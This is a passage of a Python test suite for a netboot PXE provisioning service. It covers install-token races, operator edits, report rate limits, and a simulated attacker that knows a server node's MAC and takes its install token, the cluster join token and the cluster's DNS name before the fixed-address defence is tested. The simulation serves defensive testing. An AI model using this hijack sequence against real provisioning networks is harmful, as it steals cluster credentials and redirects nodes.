    unknown MAC whose config carried the join token. Without the rule's opt-in it is held."""
    env = await make_env(AUTO.replace("      trust_firmware_strings: true\n", ""))
    await env.seed()
    for _ in range(2):
        held = await boot(env, HEXHYP, product="X")
        assert "kernel" not in held and "token" not in held
        assert "trust_firmware_strings" in held
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["state"] == "discovered" and machine["cluster"] is None
    events = await env.get(f"/api/v1/machines/{MAC}/events")
    assert [e["kind"] for e in events] == ["discovered", "hold"]
    assert "product='X'" in events[1]["message"] and "any host" in events[1]["message"]
    # The operator's approval is what installs it, with the rule's assignments.
    r = await call(env, "POST", f"/api/v1/machines/{MAC}/approve",
                   json_body={"cluster": "edge", "role": "agent", "profile": "k3os"})
    assert r.status == 200, r.text
    assert "kernel " in await boot(env, HEXHYP, product="X")


async def test_a_first_install_cancelled_while_its_token_is_written_keeps_that_token(
        env: Env) -> None:
    """A first ``/ipxe`` whose task is cancelled (the server stopping) while the commit of
    its new install token waits for the writer: the token is written all the same, and the
    retry is told that token again (install again), not a second first install."""
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    store = env.service.store
    assert isinstance(store, SqliteStore)
    before = asyncio.all_tasks()
    gate = held_writer(store)
    try:
        _, writer = await asyncio.open_connection(env.client.host, env.client.port)
        writer.write(f"GET /ipxe?mac={MAC}&arch=x86_64 HTTP/1.1\r\nHost: 192.0.2.10\r\n"
                     "\r\n".encode())
        await writer.drain()
        decision = None
        for _ in range(500):
            new = [t for t in asyncio.all_tasks() - before
                   if "ipxe" in getattr(t.get_coro(), "__qualname__", "")]
            if new:
                decision = new[0]
                break
            await asyncio.sleep(0.01)
        assert decision is not None, "the front door's /ipxe decision"
        for _ in range(500):  # its token's commit handed to the held writer
            if writes_waiting(store):
                break
            await asyncio.sleep(0.01)
        decision.cancel()
        await asyncio.sleep(0.05)
    finally:
        gate.set()
    await asyncio.wait({decision}, timeout=5)
    # Its token's commit done, with no wait left for the cancel: it ends with its answer
    # (netboot.unstoppable.deliver).
    assert decision.done() and not decision.cancelled() and decision.exception() is None
    writer.close()
    assert await state(env) == "booting"  # its install plan (and token) was written
    token = install_token(await boot(env, MAC))
    assert install_token(await boot(env, MAC)) == token
    plans = [e["message"] for e in await env.get(f"/api/v1/machines/{MAC}/events")
             if e["kind"] == "install-plan"]
    assert len(plans) == 2 and "again" in plans[1] and "again" not in plans[0], plans


@contextlib.asynccontextmanager
async def _changed_meanwhile(env: Env, when: Callable[[Batch], bool],
                             change: Callable[[Machine], Machine]) -> AsyncIterator[list[Machine]]:
    """While inside: before the first batch ``when`` picks is written, MAC's machine is read
    and ``change``d (its ``updated`` moved on) through a store of its own on the same
    inventory, as another process would write it (``netboot`` in another process, another
    server); then the batch is written. Yields the machines so read: one once it happened."""
    store = env.service.store
    assert isinstance(store, SqliteStore)
    apply_batch = store.apply_batch
    read_then: list[Machine] = []

    async def change_first(batch: Batch) -> None:
        if not read_then and when(batch):
            other = SqliteStore(store.path)
            await other.open()
            try:
                read = await other.machine_by("mac", MAC)
                assert read is not None
                await other.update_machine(dataclasses.replace(change(read),
                                                               updated=read.updated + 1),
                                           expect_state=read.state)
            finally:
                await other.close()
            read_then.append(read)
        await apply_batch(batch)

    store.apply_batch = change_first  # type: ignore[method-assign]
    try:
        yield read_then
    finally:
        del store.apply_batch


async def test_an_operators_change_during_a_first_install_decision_is_kept(env: Env) -> None:
    """An operator moves a machine to another cluster (``PATCH``) after its first ``/ipxe``
    read it and before the install plan (token, cluster binding) is committed: the plan is
    refused at its commit (the version it was derived from moved) and decided again from the
    operator's change, so the stored cluster is the operator's and the device is answered
    from it: its token's config joins the new cluster. (The other order, answering from the
    old read, would hand out a token whose stored machine the operator had already moved.)
    The change is made by a store wrapper at the plan's commit, not by a sleep, through a
    store of its own on the same inventory, as ``netboot machines edit`` in another process
    (an HTTP PATCH from there would wait for the recorder, whose write is the one held)."""
    await env.seed()
    await env.post("/api/v1/clusters", {"name": "core", "server_url": "https://192.0.2.60:6443",
                                        "token": "core-token"}, status=201)
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    async with _changed_meanwhile(
            env, lambda batch: any(e.kind == "install-plan" for e in batch.events),
            lambda read: dataclasses.replace(read, cluster="core")) as patched:
        script = await boot(env, HEXHYP)
    assert len(patched) == 1
    assert patched[0].state.value == "enrolled"
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["cluster"] == "core" and machine["state"] == "booting"
    plans = [e["message"] for e in await env.get(f"/api/v1/machines/{MAC}/events")
             if e["kind"] == "install-plan"]
    assert len(plans) == 1 and "into cluster core" in plans[0], plans
    config = k3os(await env.get(f"/config/{HEXHYP}?token={install_token(script)}"))
    assert config["k3os"]["server_url"] == "https://192.0.2.60:6443"
    assert config["k3os"]["token"] == "core-token"


async def test_an_operators_change_during_a_config_fetch_is_kept_and_answered(
        env: Env) -> None:
    """An operator moves a booting machine to another cluster after its installer's
    ``/config`` read it and before the fetch's step (booting -> installing) is committed:
    the step's write compared the state alone and put the old cluster back, answering a
    config that joins it. The version read is compared too (s34-attack): refused, the
    config is planned and rendered again from the operator's change, so the machine keeps
    ``core`` and the installer's config joins it."""
    await env.seed()
    await env.post("/api/v1/clusters", {"name": "core", "server_url": "https://192.0.2.60:6443",
                                        "token": "core-token"}, status=201)
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    script = await boot(env, HEXHYP)
    async with _changed_meanwhile(
            env, lambda batch: any(e.kind == "config" for e in batch.events) and bool(batch.update),
            lambda read: dataclasses.replace(read, cluster="core")) as patched:
        config = k3os(await env.get(f"/config/{HEXHYP}?token={install_token(script)}"))
    assert len(patched) == 1 and patched[0].state.value == "booting"
    machine = await env.get(f"/api/v1/machines/{MAC}")
    assert machine["cluster"] == "core" and machine["state"] == "installing", machine
    assert config["k3os"]["server_url"] == "https://192.0.2.60:6443"
    assert config["k3os"]["token"] == "core-token"
    fetched = [e for e in await env.get(f"/api/v1/machines/{MAC}/events") if e["kind"] == "config"]
    assert len(fetched) == 1, fetched


async def test_an_operators_patch_does_not_undo_what_a_device_reported_since_its_read(
        env: Env) -> None:
    """``PATCH`` writes the whole machine back: a fact stored after the PATCH read the machine
    and before its write (a device's report, another server's edit: made here through a store
    of its own on the same inventory, as another process would, by a store wrapper at the
    PATCH's write, not by a sleep) was overwritten with the old document when the write
    compared the state alone. It compares the version read too, and the edit is made again
    on the new version: both the operator's labels and the device's fact are kept."""
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    async with _changed_meanwhile(
            env, lambda batch: any(m.labels.get("rack") == "r7" for m in batch.update),
            lambda read: dataclasses.replace(read, facts={**read.facts, "ipv4": "192.0.2.77"})
    ) as reported:
        resp = await env.client.patch(f"/api/v1/machines/{MAC}", json={"labels": {"rack": "r7"}},
                                      headers=env.auth)
        assert resp.status == 200, await resp.text()
    store = env.service.store
    assert len(reported) == 1
    stored = await store.machine_by("mac", MAC)
    assert stored is not None
    assert stored.labels.get("rack") == "r7"
    assert stored.facts.get("ipv4") == "192.0.2.77", stored.facts


@pytest.mark.parametrize("door", ["front", "aiohttp"])
async def test_a_machines_reports_past_its_budget_are_refused_and_told_once(
        make_env: EnvFactory, door: str) -> None:
    """A holder of one machine's install token (it crossed plain HTTP in the config URL)
    posted reports without bound: an event, an audit entry and a dashboard line each until
    the token expired (s33-attack's "Left"). Past ``enroll.report_burst`` at once (then
    ``report_rate`` a second) a report is refused 429 with Retry-After; the run of refusals
    writes one event, one audit entry and one log line, not one per report. Both doors (a
    ``Cookie`` sends the same request to aiohttp)."""
    env = await make_env("enroll:\n  report_burst: 3\n  report_rate: 1\n")
    await env.seed()
    await env.post("/api/v1/machines", {"mac": MAC}, status=201)
    token = install_token(await boot(env, HEXHYP))
    headers = {"Authorization": f"Bearer {token}"}
    if door == "aiohttp":
        headers["Cookie"] = "x=1"
    audited = len(await env.service.store.list_audit())
    answers = []
    for n in range(12):
        r = await call(env, "POST", f"/api/v1/machines/{HEXHYP}/events",
                       json_body={"kind": "progress", "message": f"step {n}"},
                       headers=headers, admin=False)
        answers.append((r.status, r.headers.get("retry-after")))
    assert answers[:3] == [(201, None)] * 3, answers
    assert answers[3:] == [(429, "1")] * 9, answers
    events = await env.get(f"/api/v1/machines/{MAC}/events")
    assert [e["kind"] for e in events].count("progress") == 3
    limited = [e for e in events if e["kind"] == "reports limited"]
    assert len(limited) == 1 and "more than 3 reports" in limited[0]["message"], limited
    outcomes = [a.outcome for a in (await env.service.store.list_audit())[audited:]
                if "/events" in a.action]
    assert sorted(outcomes) == ["201", "201", "201", "429"], outcomes


# --- what a host that knows a machine's MAC can take (s36-claim) ---------------------------

DNS_ZONE = "dns:\n  enabled: true\n  listen: 127.0.0.1\n  port: 0\n  zone: netboot.lan\n"
SERVER, AGENT = "52:54:00:00:07:01", "52:54:00:00:07:02"
ATTACKER, DEVICE = "127.0.0.66", "127.0.0.7"  # the test server listens on 127.0.0.1


async def from_address(env: Env, source: str, method: str, path: str,
                       body: Any = None) -> tuple[int, str]:
    """A device request sent from ``source`` (another loopback address): its status and
    text. No admin token: what any host on the provisioning VLAN can send."""
    import aiohttp

    connector = aiohttp.TCPConnector(local_addr=(source, 0))
    async with aiohttp.ClientSession(connector=connector) as http, http.request(
            method, f"http://{env.client.host}:{env.client.port}{path}", json=body) as r:
        return r.status, await r.text()


async def cluster_address(env: Env) -> list[str]:
    """What netboot's DNS answers for the cluster's name (``edge.netboot.lan``), asked over
    real UDP of a DNS server on the service's zone."""
    import dns.asyncquery
    import dns.message

    from netboot.names import ZoneHolder
    from netboot.servers.dns import DnsServer

    server = DnsServer(ZoneHolder(await env.service._build_zone()), host="127.0.0.1", port=0)
    await server.start()
    try:
        reply = await dns.asyncquery.udp(dns.message.make_query("edge.netboot.lan", "A"),
                                         "127.0.0.1", port=server.port, timeout=5)
    finally:
        await server.close()
    return sorted(item.address for rrset in reply.answer for item in rrset)


async def take(env: Env, source: str, mac: str, claim: str) -> tuple[str, int]:
    """What a host at ``source`` that knows ``mac`` does: asks the machine's install script
    as its iPXE would, fetches the config with the token in it, and registers the machine,
    reporting ``claim`` as its address (the request's own loopback address is not
    routable, so the report is what registers: as behind a proxy on netboot's host; on a
    VLAN, the host's own address is). The script, and the registration's status."""
    status, script = await from_address(env, source, "GET", f"/ipxe?mac={mac}&arch=x86_64")
    assert status == 200, script
    if "kernel" not in script:
        return script, 0
    token = install_token(script)
    status, config = await from_address(env, source, "GET",
                                        f"/config/{mac.replace(':', '-')}?token={token}")
    assert status == 200 and k3os(config)["k3os"]["token"], config  # the cluster's join token
    status, _ = await from_address(env, source, "POST", "/api/v1/register",
                                   {"mac": mac, "token": token, "addresses": [claim]})
    return script, status


async def agent_config(env: Env) -> dict[str, Any]:
    """The config the next agent of the cluster gets, booting from its own address."""
    status, script = await from_address(env, "127.0.0.5", "GET", f"/ipxe?mac={AGENT}&arch=x86_64")
    assert status == 200, script
    return k3os(await env.get(f"/config/{AGENT.replace(':', '-')}?token={install_token(script)}"))


async def two_nodes(env: Env, fixed: str | None = None) -> None:
    await env.seed(server_url="managed")
    server: dict[str, Any] = {"mac": SERVER, "hostname": "srv", "cluster": "edge",
                              "role": "server"}
    if fixed:
        server["fixed_ipv4"] = fixed
    await env.post("/api/v1/machines", server, status=201)
    await env.post("/api/v1/machines", {"mac": AGENT, "hostname": "agt", "cluster": "edge",
                                        "role": "agent"}, status=201)


async def test_who_knows_a_server_nodes_mac_first_takes_its_install_and_the_cluster_name(
        make_env: EnvFactory) -> None:
    """The honest limit of unauthenticated PXE, as it stands for a machine without a fixed
    address: a host that saw a server node's MAC (any DHCP broadcast shows it) and asks
    before the device does gets its install token and its config (the cluster's join token),
    and registers it at an address of its own: the cluster's DNS name answers that address
    and the next agent is sent there with the join token. The real device is then told to
    boot its disk (its install is gone, it never joins). What netboot can do about it is
    the fixed address (the next test) or a configured endpoint; README's "What a host on
    the provisioning network can take" says so."""
    env = await make_env(DNS_ZONE)
    await two_nodes(env)
    _, status = await take(env, ATTACKER, SERVER, "198.51.100.66")
    assert status == 200
    assert await cluster_address(env) == ["198.51.100.66"]
    agent = await agent_config(env)
    assert agent["k3os"]["server_url"] == "https://edge.netboot.lan:6443"
    status, script = await from_address(env, DEVICE, "GET", f"/ipxe?mac={SERVER}&arch=x86_64")
    assert "kernel" not in script and script.rstrip().endswith("exit"), script
    # Its one trace, in its script and its event: where its install went.
    said = (f"its install was served to {ATTACKER}, this request came from {DEVICE}: if this "
            "device never installed, another host took its install")
    assert said in script, script
    local = [e for e in await env.get(f"/api/v1/machines/{SERVER}/events")
             if e["kind"] == "local-boot"]
    assert len(local) == 1 and said in local[0]["message"], local
    # The host that took it, booting as the machine, is told nothing of the kind.
    status, script = await from_address(env, ATTACKER, "GET", f"/ipxe?mac={SERVER}&arch=x86_64")
    assert "served to" not in script and script.rstrip().endswith("exit"), script


async def test_a_fixed_address_keeps_a_server_nodes_install_and_the_cluster_name_its_own(
        make_env: EnvFactory) -> None:
    """A server node given a fixed address: the host that knows its MAC is held without a
    token (so without the config and its join token), told once in a ``token withheld``
    event; the device at its address installs and registers, and the cluster's name answers
    that address whatever the registration reports."""
    env = await make_env(DNS_ZONE)
    await two_nodes(env, fixed=DEVICE)
    for _ in range(2):
        script, status = await take(env, ATTACKER, SERVER, "198.51.100.66")
        assert "kernel" not in script and status == 0, script
        assert f"fixed address {DEVICE}" in script
    assert await state(env, SERVER) == "enrolled"
    withheld = [e for e in await env.get(f"/api/v1/machines/{SERVER}/events")
                if e["kind"] == "token withheld"]
    assert len(withheld) == 1 and ATTACKER in withheld[0]["message"], withheld
    assert withheld[0]["data"]["peer"] == ATTACKER
    script, status = await take(env, DEVICE, SERVER, "198.51.100.66")
    assert status == 200
    machine = await env.get(f"/api/v1/machines/{SERVER}")
    assert machine["state"] == "registered" and machine["ipv4"] == DEVICE
    assert await cluster_address(env) == [DEVICE]
    agent = await agent_config(env)
    assert agent["k3os"]["server_url"] == "https://edge.netboot.lan:6443"


async def test_a_machine_with_a_fixed_address_registers_that_address(env: Env) -> None:
    """Its install token is served only at its fixed address, but a registration's peer
    and report are still claims (another NIC, a proxy on netboot's host): the address
    registered, the one agents are sent to, is the fixed one, and the event says where the
    request came from."""
    await two_nodes(env, fixed=DEVICE)
    _, script = await from_address(env, DEVICE, "GET", f"/ipxe?mac={SERVER}&arch=x86_64")
    token = install_token(script)
    await register(env, token, "198.51.100.66", mac=SERVER)
    machine = await env.get(f"/api/v1/machines/{SERVER}")
    assert machine["ipv4"] == DEVICE, machine
    registered = [e for e in await env.get(f"/api/v1/machines/{SERVER}/events")
                  if e["kind"] == "registered"]
    assert f"registered at {DEVICE} (its fixed address" in registered[0]["message"]
    agent = await agent_config(env)
    assert agent["k3os"]["server_url"] == f"https://{DEVICE}:6443"
